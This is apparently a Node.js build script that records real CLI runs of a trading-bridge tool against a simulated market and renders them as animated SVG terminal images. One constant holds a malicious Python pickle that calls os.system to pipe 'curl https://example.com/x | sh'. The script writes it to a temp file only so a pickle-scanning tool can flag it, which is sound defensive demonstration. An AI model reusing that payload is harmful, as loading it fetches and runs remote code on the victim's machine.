/**
 * Records a terminal for README: real commands against a simulated market, as an SVG that moves.
 *
 * `npm run terminal:pictures` writes docs/images/terminal-en.svg and terminal-zh.svg. Lines come when the programs wrote them, and
 * long waits are cut. Whoever wants no motion sees the last screen.
 *
 * @module
 */
import { Buffer } from 'node:buffer';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import process from 'node:process';
import { createInterface } from 'node:readline';
import { clearTimeout, setTimeout } from 'node:timers';
import { fileURLToPath } from 'node:url';

const root = fileURLToPath(new URL('../', import.meta.url));
const COLUMNS = 114;
const ROWS = 26;
const CELL = { width: 8.4, height: 18 };
const MARGIN = 14;

/** How long things take in the picture, in ms. */
const TYPING = 700;
const LONGEST_WAIT = 600;
const READING = 1900;
const LAST_LOOK = 4000;

const ORDER =
  '{"symbol":"rb2705","exchange":"SHFE","direction":"LONG","offset":"OPEN","type":"LIMIT","price":3600,"volume":2}';

/** What is typed: program and arguments. */
const STORY = [
  ['vnpy-bridge', 'doctor'],
  ['vnpy-bridge', 'contracts'],
  ['vnpy-bridge', 'listen', '--symbol', 'rb2705.SHFE', '--ask', '--count', '4'],
  ['vnpy-bridge', 'call', 'send_order', `OrderRequest${ORDER}`, 'SIM'],
  ['vnpy-bridge', 'orders'],
  ['vnpy-bridge', 'positions'],
  ['pickle-inspect', 'check', 'model.pkl'],
];

/** A pickle that runs a program where Python loads it. */
const EVIL = "cos\nsystem\n(S'curl https://example.com/x | sh'\ntR.";

const PAINTS = {
  31: '#f47067',
  32: '#57ab5a',
  33: '#c69026',
  34: '#539bf5',
  35: '#b083f0',
  36: '#39c5cf',
};
/** What paints: `ESC [ 31 m`. */
const ESCAPE = '\u001b';
const PAINT = new RegExp(`(${ESCAPE}\\[[\\d;]*m)`);
const WIDE =
  /[\u1100-\u115f\u2e80-\u303e\u3041-\ua4cf\uac00-\ud7a3\uf900-\ufaff\ufe30-\ufe6f\uff00-\uff60\uffe0-\uffe6]/u;

/** Runs a program. @returns its lines, each with when it came, in ms since the start. */
async function record([program, ...args], { env, cwd }) {
  const path = join(root, 'dist', 'cli', 'bin', `${program}.js`);
  const child = spawn(process.execPath, [path, ...args], { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
  const began = performance.now();
  const lines = [];
  for (const stream of [child.stdout, child.stderr])
    createInterface(stream).on('line', (text) => lines.push({ text, at: performance.now() - began }));
  const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
  await once(child, 'close');
  clearTimeout(timer);
  return lines;
}

/** Starts the market of the story. @returns where it is, and what ends it. */
async function serve() {
  const path = join(root, 'dist', 'cli', 'bin', 'vnpy-bridge.js');
  const anywhere = ['--request', 'tcp://127.0.0.1:*', '--subscribe', 'tcp://127.0.0.1:*'];
  const child = spawn(
    process.execPath,
    [path, 'serve', '--simulate', '--rate', '5', '--log-level', 'error', ...anywhere],
    {
      stdio: ['ignore', 'pipe', 'inherit'],
    },
  );
  for await (const line of createInterface(child.stdout)) {
    const [request, subscribe] = line.startsWith('ready: ') ? line.match(/tcp:\S+/g) : [];
    if (subscribe !== undefined) return { request, subscribe, end: () => child.kill() };
  }
  throw new Error('the simulated market has not started');
}

/** A line with its colours, in pieces of one colour and one width of characters. */
function piecesOf(line) {
  const pieces = [];
  let paint = '';
  let column = 0;
  for (const part of line.split(PAINT)) {
    if (part.startsWith(ESCAPE)) {
      const code = part.slice(2, -1);
      if (code === '1') paint = 'font-weight:bold';
      else if (code === '2') paint = 'opacity:0.6';
      else paint = code in PAINTS ? `fill:${PAINTS[code]}` : '';
      continue;
    }
    for (const [text] of part.matchAll(new RegExp(`${WIDE.source}+|[^${WIDE.source.slice(1)}+`, 'gu'))) {
      const width = WIDE.test(text) ? 2 * [...text].length : [...text].length;
      if (text.trim() !== '') pieces.push({ text, paint, column, width });
      column += width;
    }
  }
  return pieces;
}

/** Lines that are longer than the screen go on in the next, as in a terminal. */
function wrapped(text) {
  const lines = [''];
  let width = 0;
  for (const part of text.split(PAINT)) {
    if (part.startsWith(ESCAPE)) {
      lines.push(lines.pop() + part);
      continue;
    }
    for (const character of part) {
      const cells = WIDE.test(character) ? 2 : 1;
      if (width + cells > COLUMNS) {
        lines.push('');
        width = 0;
      }
      lines.push(lines.pop() + character);
      width += cells;
    }
  }
  return lines;
}

function escaped(text) {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}

function picture(lines, total) {
  const percent = (at) => `${((100 * at) / total).toFixed(2)}%`;
  const top = (row) => Math.max(0, row + 1 - ROWS) * CELL.height;
  const scrolls = lines.map(({ at }, row) => `${percent(at)}{transform:translateY(-${top(row)}px)}`);
  const shows = lines.map(({ at }, row) => `@keyframes l${row}{0%{opacity:0}${percent(at)}{opacity:1}}`);
  const texts = lines.map(({ text }, row) => {
    const y = (row + 0.75) * CELL.height;
    const pieces = piecesOf(text).map(
      ({ text: piece, paint, column, width }) =>
        `<text x="${(column * CELL.width).toFixed(1)}" y="${y}" textLength="${(width * CELL.width).toFixed(1)}"${paint && ` style="${paint}"`}>${escaped(piece)}</text>`,
    );
    return `<g style="animation-name:l${row}">${pieces.join('')}</g>`;
  });
  const width = COLUMNS * CELL.width + 2 * MARGIN;
  const height = ROWS * CELL.height + 2 * MARGIN;
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${width} ${height}" width="${width}" height="${height}">
<style>
text{font:14px ui-monospace,Menlo,Consolas,'Noto Sans Mono CJK SC',monospace;fill:#adbac7;white-space:pre}
g g{animation-duration:${total}ms;animation-timing-function:step-end;animation-iteration-count:infinite}
.all{animation-name:all;transform:translateY(-${top(lines.length - 1)}px)}
@keyframes all{0%{transform:translateY(0)}${scrolls.join('')}}
${shows.join('\n')}
@media (prefers-reduced-motion:reduce){g g{animation:none}}
</style>
<rect width="100%" height="100%" rx="8" fill="#22272e"/>
<svg x="${MARGIN}" y="${MARGIN}" width="${COLUMNS * CELL.width}" height="${ROWS * CELL.height}"><g><g class="all">
${texts.join('\n')}
</g></g></svg>
</svg>
`;
}

function typed(command) {
  return command.map((word) => (/[\s"{}|]/.test(word) ? `'${word}'` : word)).join(' ');
}

async function tell(language, cwd) {
  const market = await serve();
  const env = {
    PATH: process.env.PATH,
    VNPY_BRIDGE_LANG: language,
    PICKLE_INSPECT_LANG: language,
    VNPY_BRIDGE_COLOR: 'always',
    PICKLE_INSPECT_COLOR: 'always',
    VNPY_BRIDGE_REQUEST: market.request,
    VNPY_BRIDGE_SUBSCRIBE: market.subscribe,
    COLUMNS: String(COLUMNS),
  };
  const shown = [];
  let now = 500;
  try {
    for (const command of STORY) {
      const output = await record(command, { env, cwd });
      for (const text of wrapped(`\u001b[32m$\u001b[39m \u001b[1mnpx ${typed(command)}\u001b[22m`))
        shown.push({ text, at: now });
      now += TYPING;
      let last = 0;
      for (const { text, at } of output) {
        now += Math.min(at - last, LONGEST_WAIT);
        last = at;
        for (const line of wrapped(text)) shown.push({ text: line, at: now });
      }
      shown.push({ text: '', at: now });
      now += READING;
    }
  } finally {
    market.end();
  }
  writeFileSync(join(root, 'docs', 'images', `terminal-${language}.svg`), picture(shown, now + LAST_LOOK));
}

const folder = mkdtempSync(join(tmpdir(), 'terminal-'));
try {
  writeFileSync(join(folder, 'model.pkl'), Buffer.from(EVIL));
  await tell('en', folder);
  await tell('zh', folder);
} finally {
  rmSync(folder, { recursive: true });
}
